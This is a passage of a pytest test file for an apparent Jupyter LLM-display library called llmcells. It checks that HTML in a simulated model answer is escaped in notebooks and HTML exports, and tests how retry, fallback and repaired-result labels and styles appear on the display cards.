    assert "&lt;b&gt;gpt&lt;/b&gt;" in data["text/html"]


@pytest.mark.kernel
@pytest.mark.timeout(240)
def test_a_hostile_answer_runs_no_script_in_a_notebook_or_its_html_export(tmp_path, monkeypatch):
    """An answer carrying HTML, as a card (widget state and its static copy), a Result and a
    Comparison shown as a cell's value, and a DataFrame of results: in the saved notebook and in
    nbconvert's HTML export the payload is text, never markup."""
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    nbconvert = pytest.importorskip("nbconvert")
    _notebook_env(tmp_path, monkeypatch)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(s) for s in (
        f"import llmcells\nsim = llmcells.simulate(ttft=0.01, tokens_per_s=2000)\n"
        f"sim.set_model('*', text={HOSTILE_HTML!r})",
        "r = llmcells.run(llmcells.ask('x', model='claude', display=False))\nr",
        "c = llmcells.run(llmcells.compare('x', ['claude', 'chatgpt'], display=False))\nc",
        "c2 = llmcells.run(llmcells.compare('x', ['claude', 'chatgpt']))",
        "c.to_frame()",
    )]
    nbclient.NotebookClient(nb, timeout=180, kernel_name="python3",
                            resources={"metadata": {"path": str(tmp_path)}}).execute()
    for cell in nb.cells:
        assert not [o for o in cell.outputs if o.output_type == "error"], cell.outputs
    assert "XSS2" in json.dumps(nb.cells[1].outputs)  # the answer is there, as text
    page, _ = nbconvert.HTMLExporter().from_notebook_node(nb)
    # (the first cell's source, with the payload as a Python string, is escaped by nbconvert)
    assert not _UNSAFE.search(page), _UNSAFE.search(page)


def test_a_retrying_or_falling_back_card_keeps_its_labels(comms):
    """The retry status is short (the model's name keeps its room), its whole text is the
    tooltip, and the body says it is retrying; a fallback note has its own line with the full
    text as a tooltip, and the "simulated" badge comes before anything long."""
    h = open_display("ask", [info("openai:gpt-4.1-mini")], "notebook")
    card = h.observers[0]
    card.on_start(card.info)
    card.on_retry(RetryInfo(attempt=2, max_attempts=4, wait_s=12, status_code=429, reason="rate_limit",
                            message="Rate limit reached for requests per minute"))
    head = card.header.value
    label = re.search(r'<span class="llmcells-status[^"]*"[^>]*>([^<]*)</span>', head).group(1)
    assert len(label) <= 20 and "2/4" in label, label
    assert 'title="⟳ retrying in 12 s (429)… attempt 2 of 4: Rate limit reached' in head
    assert "retrying after: Rate limit reached" in card.body.value
    assert "waiting to start" not in card.body.value
    long_note = "x" * 150
    card.on_fallback("openai:gpt-4.1-mini", "overloaded", "anthropic:" + long_note)
    head = card.header.value
    note = re.search(r'<div class="llmcells-note[^"]*" title="([^"]*)">', head)
    assert note and long_note in note.group(1)
    sub = re.search(r'<div class="llmcells-sub[^>]*>(.*?)</div>', head).group(1)
    assert sub.startswith('<span class="llmcells-badge">simulated</span>')


def test_terminal_shows_the_repaired_answer(capsys):
    h = open_display("ask", [info(simulated=False)], "terminal")
    obs = h.observers[0]
    obs.on_start(obs.info)
    obs.on_finish(Result(text="not json", model=obs.info.model_id, status="error",
                         error="invalid output", error_kind="invalid_output",
                         call_id=obs.info.call_id))
    h.close([Result(text='{"a": 1}', model=obs.info.model_id, status="ok", call_id="repaired",
                    latency_s=1.0)])
    out = capsys.readouterr().out
    assert "repaired" in out and '{"a": 1}' in out
    assert out.index("repaired") < out.index('{"a": 1}')


def test_only_a_failed_validation_counts_as_repaired(comms):
    """A result with another call_id for a card that ended for another reason (an error, a
    fallback) leaves the card as it is: no "repaired" note."""
    h = open_display("ask", [info()], "notebook", prompt="p")
    card = h.observers[0]
    card.on_start(card.info)
    card.on_finish(Result(text="partial", model=card.info.model_id, status="error",
                          error="overloaded", error_kind="overloaded", call_id=card.info.call_id))
    h.close([Result(text="other", model="openai:gpt-4.1-mini", status="ok", call_id="x")])
    assert "repaired" not in card.header.value and "✗" in card.header.value


def test_a_result_shown_after_a_card_is_not_hidden_by_the_live_stylesheet():
    """A Result or Comparison shown as a cell's value was wrapped in the static copy's class,
    which the cards' live stylesheet hides (display: none) once any card has been shown: in
    JupyterLab the value's output was blank (height 0) after a first %%compare."""
    from llmcells.display.style import CARD_CSS

    hidden = set()
    for rule in CARD_CSS.split("}"):
        selectors, _, body = rule.partition("{")
        if "display: none" in body:
            hidden |= set(re.findall(r"\.(llmcells-[\w-]+)", selectors))
    assert "llmcells-static" in hidden  # (the rule this guards against)
    shown = Result(text="**hi**", status="ok", model="anthropic:claude-haiku-5-5")._repr_html_()
    classes = set(re.findall(r'class="([^"]+)"', shown))
    assert not {c for cls in classes for c in cls.split()} & hidden, classes
